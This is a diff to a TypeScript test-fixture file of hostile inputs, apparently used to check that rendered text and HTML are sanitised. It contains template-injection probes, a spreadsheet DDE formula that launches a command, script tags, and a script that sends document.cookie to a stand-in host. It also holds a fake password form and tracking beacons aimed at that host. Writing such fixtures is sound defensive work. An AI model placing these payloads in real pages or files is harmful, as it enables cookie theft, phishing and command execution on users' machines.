@@ -7,7 +7,7 @@ export const TRACKER_HTML = `<table><tr><td><a href="https://click.halyard-robot
 
 /** Bait for template engines and spreadsheets, as visible text. */
 export const HOSTILE_TEXT =
-  '{{7*7}} ${process.env.DATABASE_URL} <%= 7*7 %>\n=cmd|\'/C calc\'!A0\n<script>alert("credit control")</script>';
+  '{{7*7}} ${constructor.constructor(1)} <%= 7*7 %>\n=cmd|\'/C calc\'!A0\n<script>alert("credit control")</script>';
 
 /** The same in HTML, with what a browser would run if it were let. */
 export const HOSTILE_HTML = `<script>fetch("https://files.greyfriars-tooling.example/s?c=" + document.cookie)</script>
@@ -16,4 +16,4 @@ export const HOSTILE_HTML = `<script>fetch("https://files.greyfriars-tooling.exa
 <iframe src="https://files.greyfriars-tooling.example/frame"></iframe>
 <form action="https://files.greyfriars-tooling.example/login"><input name="password" placeholder="Sign in to see the invoice"></form>
 <style>body { background: url("https://files.greyfriars-tooling.example/css.png"); } .pane { display: none !important; }</style>
-<div>{{7*7}} \${process.env.DATABASE_URL} =cmd|'/C calc'!A0</div>`;
+<div>{{7*7}} \${constructor.constructor(1)} =cmd|'/C calc'!A0</div>`;
